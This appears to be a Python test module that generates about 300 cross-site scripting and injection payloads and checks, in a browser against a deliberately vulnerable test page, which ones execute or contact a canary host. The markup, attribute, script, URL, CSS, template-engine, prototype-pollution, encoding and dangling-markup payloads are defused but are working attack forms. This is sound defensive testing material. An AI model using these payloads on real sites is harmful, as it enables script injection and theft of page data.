"""300 texts that try to be more than text.

In the templates RUN stands for a call that tells the test which one ran, AWAY for an address at which the test sees who
comes. `sink` says where a careless page would have to put the text for it to work; in no sink of its own, it is meant
for parsers, template engines, character sets and readers' eyes.
"""

from __future__ import annotations

import html
import re
from dataclasses import dataclass
from itertools import product

BREAKS = (
    *('">', "'>", "`>", "-->", "]]>", "</title>", "</textarea>", "</script>", "</style>", "</option></select>"),
    *("</noscript>", "</template>"),
)
VECTORS = (
    "<script>RUN</script>",
    "<img src=x onerror=RUN>",
    "<svg onload=RUN>",
    "<iframe src=AWAY>",
    "<details open ontoggle=RUN>",
    "<video src=x onerror=RUN>",
    "<link rel=stylesheet href=AWAY>",
)
MARKUP = (
    "<SCRIPT>RUN</SCRIPT >",
    "<script/x>RUN</script>",
    "<script type=module>RUN</script>",
    "<script src=AWAY></script>",
    "<script>/*<!--*/RUN//--></script>",
    "<scr<script>ipt></script><script>RUN</script>",
    "<img/src=''/onerror=RUN>",
    "<IMG SRC=x ONERROR='RUN'>",
    "<img\tsrc=x\tonerror=RUN>",
    "<img src=x onerror=RUN//",
    "<img src=AWAY>",
    '<img srcset="AWAY 1x">',
    "<image src=x onerror=RUN>",
    "<picture><source srcset=AWAY><img>",
    "<svg><script>RUN</script></svg>",
    "<svg><script href=AWAY></script>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s>",
    "<svg><set onbegin=RUN attributeName=x dur=1s>",
    "<svg><image href=AWAY />",
    "<svg><foreignObject><img src=x onerror=RUN>",
    "<svg><style>@import 'AWAY'</style>",
    "<svg><title><img src=x onerror=RUN></title>",
    "<svg><desc><script>RUN</script>",
    "<body onload=RUN>",
    "<body onpageshow=RUN>",
    "<body background=AWAY>",
    "<iframe srcdoc='<script>RUN</script>'>",
    "<iframe src=javascript:RUN>",
    "<iframe onload=RUN>",
    "<svg><animateTransform onbegin=RUN attributeName=transform dur=1s>",
    "<embed src=AWAY>",
    "<object data=AWAY></object>",
    "<video><source onerror=RUN>",
    "<video poster=AWAY>",
    "<audio src=AWAY autoplay>",
    "<audio src=x onerror=RUN>",
    "<input autofocus onfocus=RUN>",
    "<input type=image src=AWAY>",
    "<textarea autofocus onfocus=RUN>",
    "<select autofocus onfocus=RUN>",
    "<button autofocus onfocus=RUN>",
    "<p tabindex=1 autofocus onfocus=RUN>",
    "<a href=x autofocus onfocus=RUN>",
    "<p contenteditable autofocus onfocus=RUN>",
    "<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=RUN>",
    "<style onload=RUN></style>",
    "<style>@import 'AWAY';</style>",
    "<style>*{background:url(AWAY)}</style>",
    "<p style=background:url(AWAY)>x</p>",
    "<meta http-equiv=refresh content=0;url=AWAY>",
    "<link rel=prefetch href=AWAY>",
    "<base href=AWAY/><img src=x>",
    "<table background=AWAY>",
    "<math><mtext><img src=x onerror=RUN>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=RUN>",
    "<noscript></noscript><img src=x onerror=RUN>",
    "<template></template><img src=x onerror=RUN>",
    "<!--><img src=x onerror=RUN>-->",
    "<!--!><!----><img src=x onerror=RUN>",
    "<![CDATA[><img src=x onerror=RUN>]]>",
    "<?xml version='1.0'?><img src=x onerror=RUN>",
    "<xmp></xmp><img src=x onerror=RUN>",
    "<table><td><img src=x onerror=RUN>",
    '<svg></p><style><a id="</style><img src=x onerror=RUN>">',
    "<math></p><style><!--</style><img src=x onerror=RUN>",
    "<img src='AWAY?",
    "<img src='AWAY?'dangling",
    "<style>@import url('AWAY?');</style dangling",
    "<video src='AWAY?",
    "Doe^Jane^^Dr.^<img src=x onerror=RUN>",
    "Doe\\<script>RUN</script>",
    "Yamada^Tarou=山田^太郎=<svg onload=RUN>",
    "Doe^<script>RUN</script>^\\^",
    "¥ソ表\\<img src=x onerror=RUN>",
)
ATTRIBUTE = (
    '" autofocus onfocus=RUN x="',
    "' autofocus onfocus=RUN x='",
    '"autofocus/onfocus="RUN',
    "'autofocus/onfocus='RUN",
    '" autofocus tabindex=1 onfocusin="RUN',
    '" type=image src="AWAY',
    "' type=image src='AWAY",
    '" style="background:url(AWAY)',
    "' style='background:url(AWAY)",
    '" onfocus=RUN autofocus //',
)
SCRIPT = (
    '"-RUN-"',
    "'-RUN-'",
    "`-RUN-`",
    '";RUN//',
    "';RUN//",
    "`;RUN//",
    '\\";RUN//',
    "\\';RUN//",
    '"+RUN+"',
    "${RUN}",
    "*/RUN/*",
    "</script><script>RUN</script><script>",
    '"\u2028;RUN//',
    '"});RUN//"',
    '"}];RUN//',
    "'}];RUN//",
    '",x:RUN,z:"',
    '"\n;RUN//',
)
ADDRESS = (
    "javascript:RUN",
    "JaVaScRiPt:RUN",
    "java\tscript:RUN",
    " javascript:RUN",
    "javascript:/**/RUN",
    "javascript://%0aRUN",
    "javascript:'<script>RUN</script>'",
    "javascript:void(RUN)",
    "data:text/html,<script>RUN</script>",
    "data:text/html;charset=utf-8,%3Cscript%3ERUN%3C/script%3E",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>",
    "AWAY",
    "http:AWAY",
    "\\\\canary.invalid/#NUMBER",
)
STYLE = (
    "*{background:url(AWAY)}",
    "@import 'AWAY';",
    "@import url(AWAY);",
    "x}*{background:url(AWAY)}",
    "</style><img src=x onerror=RUN>",
    "body{background:image-set('AWAY' 1x)}",
    "*{list-style:url(AWAY) inside;display:list-item}",
    "@font-face{font-family:x;src:url(AWAY)}*{font-family:x}",
)
NO_SINK = (
    # template engines, frameworks, mark-down, spreadsheets
    *(
        "{{constructor.constructor('RUN')()}}",
        "{{RUN}}",
        "{{{RUN}}}",
        "{%RUN%}",
        "<%=RUN%>",
        "#{RUN}",
        "[[RUN]]",
        "{RUN}",
    ),
    *(
        "@(RUN)",
        "{{=RUN}}",
        "{{$on.constructor('RUN')()}}",
        "{{_c.constructor('RUN')()}}",
        "${{RUN}}",
        "<#RUN>",
        "~{RUN}",
    ),
    *("ng-init=RUN", "v-html=RUN", "x-init=RUN", "hx-on:load=RUN", "<p v-on:mount=RUN>", "<p ng-app ng-init=RUN>"),
    '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=RUN>"}}',
    '{"$$typeof":"Symbol(react.element)","type":"img","props":{"src":"x","onError":"RUN"}}',
    '{"__proto__":{"innerHTML":"<img src=x onerror=RUN>"}}',
    '{"constructor":{"prototype":{"srcdoc":"<script>RUN</script>"}}}',
    *(
        "[x](javascript:RUN)",
        "![x](AWAY)",
        "<javascript:RUN>",
        "\\href{javascript:RUN}{x}",
        '=HYPERLINK("AWAY")',
        "@SUM(RUN)",
    ),
    # names that every object has
    *("__proto__", "constructor", "prototype", "toString", "valueOf", "hasOwnProperty", "__defineGetter__", "then"),
    # encoded once or twice, for whoever decodes once too often
    *("&lt;img src=x onerror=RUN&gt;", "&#60;script&#62;RUN&#60;/script&#62;", "&#x3c;svg onload=RUN&#x3e;"),
    *(
        "&amp;lt;img src=x onerror=RUN&amp;gt;",
        "javascript&colon;RUN",
        "java&Tab;script:RUN",
        "&NewLine;javascript:RUN",
    ),
    *("%3Cscript%3ERUN%3C/script%3E", "%253Cscript%253ERUN", "\\u003cscript\\u003eRUN", "\\x3cscript\\x3eRUN"),
    *("+ADw-script+AD4-RUN+ADw-/script+AD4-", "\\74script\\76RUN", "<\\0script>RUN"),
    # letters that are folded, normalised, joined or dropped
    *("＜script＞RUN＜/script＞", "‹img src=x onerror=RUN›", "<ſcript>RUN</ſcript>", "<ımg src=x onerror=RUN>"),
    *("<\u0338script>RUN", "<scr\u00adipt>RUN</scr\u00adipt>", "<\u00a0img src=x onerror=RUN>", "﹤svg onload=RUN﹥"),
    *("\u2028RUN\u2029", "<sc\ufffdript>RUN", "𝒿avascript:RUN", "<𝕚𝕞𝕘 src=x onerror=RUN>", "e\u0301\u0301\u0301RUN"),
    # marks that turn the writing around, or are not seen
    *(
        "\u202e<script>RUN</script>",
        "Doe\u202egnp.RUN",
        "\u2066<img src=x onerror=RUN>\u2069",
        "\u061cRUN\u200f",
        "\u200e\u200fRUN",
    ),
    *(
        "<scr\u200bipt>RUN</scr\u200bipt>",
        "java\u200bscript:RUN",
        "\ufeff<svg onload=RUN>",
        "<\u2060img src=x onerror=RUN>",
    ),
    # markup that is left open, to swallow what stands behind it
    *(
        "<a href='AWAY?",
        "<form action=AWAY><textarea>",
        "<button formaction=AWAY>x",
        "<a target='",
        "<!-- RUN",
        "<xmp>RUN",
        "<plaintext>RUN",
    ),
    # markup that a second parse turns into other markup
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=RUN>">',
    # names and character sets of DICOM
    *(
        "Doe^Jane=RUN=RUN",
        "=^=RUN",
        "^^^^RUN",
        "Doe\\\\RUN",
        "A^B^C^D^E^F^RUN",
        "~}|\\^=RUN",
        "ﾔﾏﾀﾞ^ﾀﾛｳ=RUN",
        "Müller^Änne¥RUN",
    ),
)


@dataclass(frozen=True, slots=True)
class Payload:
    """One text. sink: markup, attribute, script, address, style, or "" for none of these."""

    number: int
    sink: str
    text: str


def _all() -> tuple[Payload, ...]:
    sinks = {
        "markup": (*(f"{out}{vector}" for out, vector in product(BREAKS, VECTORS)), *MARKUP),
        "attribute": ATTRIBUTE,
        "script": SCRIPT,
        "address": ADDRESS,
        "style": STYLE,
        "": NO_SINK,
    }
    templates = [(sink, template) for sink, several in sinks.items() for template in several]
    return tuple(Payload(number, sink, _filled(text, number)) for number, (sink, text) in enumerate(templates))


def _filled(template: str, number: int) -> str:
    away = f"//canary.invalid/{number}"
    return template.replace("RUN", f"__ran.push({number})").replace("AWAY", away).replace("#NUMBER", str(number))


PAYLOADS = _all()
RAN = "window.__ran = { push: number => console.error('ran', number) }"
"""For a page's every document, before all else of it."""
CARELESS = "http://careless.test"
SINKS = {
    "markup": "<div>{0}</div><p title='x'></p>",
    "attribute": "<input value=\"{0}\"><input value='{0}'>",
    "script": "<script>function f() {{}}</script>"
    + "".join(
        f"<script>{code}</script>"
        for code in ('x = "{0}"', "x = '{0}'", "x = `{0}`", "/*{0}*/", 'f({{y: "{0}"}})', 'x = [{{y: "{0}"}}]')
    )
    + "<script>x = [{{y: '{0}'}}]</script><script>x = \"{1}\"</script><script>x = '{1}'</script>",
    "address": "<iframe src='{2}'></iframe>",
    "style": "<style>{0}</style><style>p{{color:{0}}}</style><p>x",
}


def careless(route):
    """A page that puts each text where its author wants it."""
    asked = route.request.url.removeprefix(f"{CARELESS}/")
    if asked == "all":
        frames = [f"<iframe src=/{payload.number}></iframe>" for payload in PAYLOADS if payload.sink]
        route.fulfill(content_type="text/html", body="".join(frames))
    elif asked.isdecimal():
        payload = PAYLOADS[int(asked)]
        escaped = payload.text.replace('"', '\\"').replace("'", "\\'")
        body = SINKS[payload.sink].format(payload.text, escaped, html.escape(payload.text))
        route.fulfill(content_type="text/html; charset=utf-8", body=f"<!doctype html><body>{body}")
    else:
        route.abort()


class Seen:
    """Which texts ran on a page, or made it ask for their address."""

    def __init__(self, page):
        self.page, self.numbers = page, set()
        page.add_init_script(RAN)
        page.on("console", lambda message: self._note(r"ran (\d+)", message.text))
        page.on("request", lambda request: self._note(r"\w+://canary\.invalid/#?(\d+)", request.url))

    def _note(self, pattern, text):
        if found := re.match(pattern, text):
            self.numbers.add(int(found[1]))

    def await_all(self, numbers):
        for _ in range(100):
            if numbers <= self.numbers:
                return
            self.page.wait_for_timeout(50)
